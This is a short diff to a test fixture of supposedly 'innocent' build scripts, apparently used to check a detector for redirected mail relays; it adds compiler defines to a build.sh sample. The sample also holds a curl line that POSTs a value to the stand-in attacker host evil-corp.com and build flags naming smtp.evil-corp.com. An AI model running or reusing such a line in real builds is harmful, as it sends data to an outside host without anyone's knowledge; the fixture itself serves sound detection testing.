@@ -54,7 +54,7 @@ export const innocent: Readonly<Record<string, Files>> = {
   // Constants that a build is given.
   'build, constants of other kinds': {
     'build.sh':
-      '#!/bin/sh\ngo build -ldflags "-X main.smtpHost=new-relay.corp.example -X main.version=smtp.evil-corp.com" ./cmd\ngcc -DMAIL_FROM=smtp.evil-corp.com -DHAVE_SMTP=1 a.c\ncurl -X POST -d smtpHost=x https://evil-corp.com\n',
+      '#!/bin/sh\ngo build -ldflags "-X main.smtpHost=new-relay.corp.example -X main.version=smtp.evil-corp.com" ./cmd\ngcc -DMAIL_FROM=smtp.evil-corp.com -DHAVE_SMTP=1 -DSMTP_SERVER=1 -DMAIL_SERVER=ON a.c\ncurl -X POST -d smtpHost=x https://evil-corp.com\n',
   },
 
   // Names that are led elsewhere, and are no relay's, or stay on the machine.
